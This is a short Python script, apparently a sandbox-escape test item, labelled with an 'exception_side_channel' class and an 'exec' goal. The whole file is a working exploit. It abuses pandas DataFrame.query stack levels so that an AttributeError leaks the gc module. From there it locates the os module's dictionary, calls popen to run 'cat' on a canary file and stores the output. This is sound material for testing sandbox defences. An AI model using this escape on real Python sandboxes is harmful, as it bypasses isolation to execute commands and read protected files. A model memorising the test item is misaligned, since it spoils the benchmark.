# class: exception_side_channel
# technique: AttributeError.obj (E07): a DataFrame.query expression '@gc.no_such_name' ([frame.agg][0]('query', ..., level=k)) fails in the harness frame, and the exception hands back the gc module
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
gcmod = None
for depth in range(1, 48):
    try:
        [frame.agg][0]("query", 0, "@gc.no_such_name", level=depth)
    except AttributeError as err:
        gcmod = err.obj
        break
    except Exception:
        continue
os_dict = [o for o in gcmod.get_objects() if isinstance(o, dict) and "popen" in o and "fspath" in o][0]
df = pd.DataFrame({"stolen": [os_dict["popen"]("cat {{CANARY_FILE}}").read()]})
